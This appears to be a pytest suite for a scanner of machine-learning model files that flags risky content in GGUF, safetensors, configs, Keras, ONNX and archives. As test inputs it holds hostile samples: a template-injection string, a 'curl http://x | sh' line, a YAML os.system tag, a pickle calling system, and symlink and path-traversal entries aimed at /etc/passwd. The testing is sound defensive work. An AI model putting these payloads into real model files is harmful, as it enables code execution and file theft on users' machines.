"""The facts of one file: whatever its author wrote, an answer and no crash."""

import io
import json
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airlift.artifact import ContentClass
from airlift.digest import sha256
from airlift.payload import file_look
from airlift.payload.face import Role, role_of
from airlift.payload.file_facts import FileFacts
from airlift.payload.signs import Rule, Sign
from hubs import gguf_file
from hubs.gguf_file import Gguf, string, tensor
from moving import tensors


def facts(name: str, data: bytes, role: Role | None = None) -> FileFacts:
    """Return the facts of a file; its bytes come in small pieces, as a disk's may."""

    def read(start: int, stop: int) -> bytes:
        assert 0 <= start <= stop <= len(data)
        return data[start : min(stop, start + 70_000)]

    return file_look.look(name, len(data), read, role or role_of(name, {}))


def rules(name: str, data: bytes, role: Role | None = None) -> list[str]:
    """Return the rules of the signs of a file."""
    return [one.rule.value for one in facts(name, data, role).signs]


def archive(*members: tuple[str, bytes]) -> bytes:
    """Return a ZIP of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, data in members:
            made.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def array(descr: str) -> bytes:
    """Return an array file of one element of the type *descr*."""
    head = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,)}}".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + b"\0" * 8


# --- weights ----------------------------------------------------------------------


def test_weights_are_counted_by_type() -> None:
    """Two revisions of one name may differ in precision alone."""
    data = tensors({"a": ("F32", (2, 3)), "b": ("BF16", (5,)), "c": ("F32", (1,))})
    assert facts("model.safetensors", data) == FileFacts(
        format="safetensors",
        content_class=ContentClass.DATA,
        tensors=3,
        parameters={"BF16": 5, "F32": 7},
    )


def test_a_hole_between_tensors_is_a_sign() -> None:
    """Another file fits into it."""
    entry = {"dtype": "U8", "shape": [1], "data_offsets": [4, 5]}
    head = json.dumps({"a": entry}).encode()
    data = struct.pack("<Q", len(head)) + head + b"\0" * 5
    assert rules("model.safetensors", data) == ["malformed"]


@pytest.mark.parametrize("name", ["model.safetensors", "model.gguf"])
@pytest.mark.parametrize(
    "data", [b"", b"\xff" * 9, b"version https://git-lfs.github.com/spec/v1\n"]
)
def test_a_name_that_promises_weights_is_kept(name: str, data: bytes) -> None:
    """A pointer in the place of a file loads nowhere."""
    assert "malformed" in rules(name, data)


def test_a_gguf_says_what_it_is() -> None:
    """Quantisation and architecture decide which runtime can have it."""
    data = gguf_file.model(1 << 16)
    found = facts("model.gguf", data)
    assert (found.architecture, found.tensors, found.signs) == ("llama", 1, ())
    assert found.parameters == {"I8": 1 << 16}


def test_bytes_behind_the_last_tensor_are_a_sign() -> None:
    """A second file may ride behind the first."""
    data = gguf_file.model(1 << 10)
    assert rules("model.gguf", data + bytes(31)) == []
    found = facts("model.gguf", data + b"#" * 5000)
    assert found.signs == (
        Sign(Rule.GGUF_TRAILING, "5000 bytes behind the last tensor"),
    )


def test_every_template_of_a_gguf_is_parsed() -> None:
    """llama-cpp-python rendered them without a sandbox once (CVE-2024-34359)."""
    evil = "{{ x.__globals__ }}"
    keys = [
        string("general.architecture", "llama"),
        string("tokenizer.chat_template", "{{ messages }}"),
        string("tokenizer.chat_template.tool_use", evil),
    ]
    data = Gguf(keys=keys, tensors=[tensor("w", [4])]).whole(bytes(16))
    found = facts("model.gguf", data)
    assert found.templates == {
        "default": sha256(b"{{ messages }}"),
        "tool_use": sha256(evil.encode()),
    }
    assert found.signs == (Sign(Rule.TEMPLATE_DUNDER, "__globals__"),)


def test_metadata_for_a_terminal_or_a_shell_is_a_sign() -> None:
    """Somebody will print it, or paste it."""
    keys = [
        string("general.architecture", "llama"),
        string("general.description", "good \x1b]0;owned\x07 model"),
        string("general.url", "run: curl http://x | sh"),
    ]
    data = Gguf(keys=keys, tensors=[tensor("w", [4])]).whole(bytes(16))
    assert [one.detail for one in facts("model.gguf", data).signs] == [
        "general.description: good \\x1b]0;owned\\x07 model",
        "general.url: run: curl http://x | sh",
    ]


# --- settings and templates -------------------------------------------------------


def test_code_that_settings_name_is_a_sign() -> None:
    """Some releases of vLLM imported it unasked (CVE-2026-22807)."""
    told = {"auto_map": {"AutoModel": "m.M", "AutoConfig": "other/repo--c.C"}}
    found = facts("config.json", json.dumps(told).encode())
    assert found.auto_map == ("m.M", "other/repo--c.C")
    assert found.signs == (
        Sign(Rule.AUTO_MAP, "m.M"),
        Sign(Rule.AUTO_MAP_ELSEWHERE, "other/repo--c.C"),
    )


def test_templates_of_a_tokenizer_are_kept_by_digest() -> None:
    """Two of one name must not hide each other."""
    listed = [
        {"name": "default", "template": "a"},
        {"name": "default", "template": "b"},
    ]
    told = json.dumps({"chat_template": listed}).encode()
    assert facts("tokenizer_config.json", told).templates == {
        "default": sha256(b"a"),
        "default-2": sha256(b"b"),
    }


def test_a_long_configuration_is_read_whole() -> None:
    """What stands in its middle is out of sight of who looks at both ends."""
    padding = {f"k{n}": "x" * 100 for n in range(1000)}
    told = {**padding, "auto_map": {"AutoModel": "m.M"}, "z": padding}
    assert rules("config.json", json.dumps(told).encode()) == ["auto-map"]
    assert rules("config.json", json.dumps({**padding, "z": padding}).encode()) == []


def test_a_configuration_that_is_too_long_is_a_sign() -> None:
    """Not looked into is not harmless."""
    data = b'{"a": "' + b"x" * (1 << 20) + b'"}'
    assert "unread" in rules("config.json", data)


def test_settings_that_are_not_json_are_a_sign() -> None:
    """Some reader may be more forgiving."""
    assert rules("config.json", b"{'auto_map': 1}") == ["unread"]


def test_a_template_file_is_parsed_and_a_template_of_ollama_is_not() -> None:
    """Ollama's are in another language, which cannot reach anything."""
    evil = b"{{ x.__class__ }}"
    assert rules("chat_template.jinja", evil) == ["template-dunder"]
    assert rules("template:template", evil, Role.TEMPLATE) == []
    assert facts("template:template", evil, Role.TEMPLATE).templates == {
        "default": sha256(evil)
    }


# --- what can act -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "signs"),
    [
        ("modeling_x.py", b"import os\n", ["python"]),
        ("run.sh", b"#!/bin/sh\n", ["script"]),
        ("notes.ipynb", b'{"cells": []}', ["script"]),
        ("kernel.so", b"\x7fELF\x02\x01\x01\x00", ["executable"]),
        ("model.bin", b"\x7fELF\x02\x01\x01\x00", ["executable"]),
        (
            "weights.json",
            b"\x7fELF\x02\x01\x01\x00",
            ["disguised", "executable", "unread"],
        ),
        ("x.yaml", b"a: !!python/object/apply:os.system [x]\n", ["yaml-object"]),
        (
            "model.safetensors",
            b"\x80\x04cposix\nsystem\n.",
            ["disguised", "malformed"],
        ),
        ("saved_model.pb", b"\x08\x01\x12\x00\x00\x00\x00\x00", ["tensorflow-graph"]),
        ("README.md", b"# hello\n", []),
        ("picture.png", b"\x89PNG\r\n\x1a\n", []),
    ],
)
def test_what_can_act_has_a_sign(name: str, data: bytes, signs: list[str]) -> None:
    """By content first: a name may only make it worse."""
    assert rules(name, data) == signs


def test_an_archive_is_named_with_what_lies_in_it() -> None:
    """It is not looked into; a person sees what would come out."""
    found = facts("extra.zip", archive(("a.txt", b"a"), ("b/c.csv", b"b")))
    assert found.signs == (
        Sign(Rule.ARCHIVE, "2 members: a.txt, b/c.csv"),
        Sign(Rule.ARCHIVE, "zip"),
    )


def test_an_archive_with_a_link_in_it_is_a_sign() -> None:
    """What it points at is not in the archive."""
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(link, "/etc/passwd")
    assert "malformed" in rules("extra.zip", out.getvalue())


def test_arrays_of_numbers_are_told_from_arrays_of_objects() -> None:
    """The second are pickles, and look the same from outside."""
    plain = facts(
        "vectors.npz", archive(("a.npy", array("<f8")), ("b.npy", array("<i4")))
    )
    assert (plain.content_class, plain.signs) == (ContentClass.DATA, ())
    mixed = facts(
        "vectors.npz", archive(("a.npy", array("<f8")), ("b.npy", array("|O")))
    )
    assert mixed.content_class is ContentClass.PICKLE


def test_a_lambda_layer_is_found_in_both_formats_of_keras() -> None:
    """It is Python byte code that runs when the model is loaded."""
    layer = {"config": {"layers": [{"class_name": "Lambda"}]}}
    kept = archive(
        ("config.json", json.dumps(layer).encode()), ("model.weights.h5", b"")
    )
    assert rules("model.keras", kept) == ["keras", "keras-lambda"]
    plain = archive(("config.json", b'{"layers": []}'), ("model.weights.h5", b""))
    assert rules("model.keras", plain) == ["keras"]
    older = b"\x89HDF\r\n\x1a\n" + b"\0" * (5 << 20) + b'{"class_name": "Lambda"}'
    assert rules("model.h5", older) == ["keras", "keras-lambda"]


def test_files_that_an_onnx_model_names_are_kept() -> None:
    """One that lies elsewhere is read from wherever it says."""

    def outside(path: bytes) -> bytes:
        return b"\x0a\x08location\x12" + bytes([len(path)]) + path

    data = b"\x08\x07\x12\x00" + outside(b"weights.data") + b"\0" * (5 << 20)
    found = facts("model.onnx", data + outside(b"../../etc/passwd"))
    assert found.outside == ("../../etc/passwd", "weights.data")
    assert found.signs == (Sign(Rule.ONNX_OUTSIDE, "../../etc/passwd"),)


@given(
    name=st.sampled_from(
        [
            *("model.safetensors", "model.gguf", "config.json", "model.onnx"),
            *("m.index.json", "chat_template.jinja", "model.keras", "x.npz", "x.zip"),
        ]
    ),
    front=st.sampled_from(
        [
            *(b"", b"GGUF\x03\0\0\0", b"\x20\0\0\0\0\0\0\0{", b"PK\x03\x04", b"{"),
            *(b"PK\x05\x06" + bytes(18), b"\x89HDF\r\n\x1a\n", b"\x93NUMPY\x01\0"),
        ]
    ),
    rest=st.binary(max_size=200),
)
def test_no_bytes_end_the_look(name: str, front: bytes, rest: bytes) -> None:
    """One file that breaks a parser must not keep all others from being looked at."""
    assert facts(name, front + rest).format
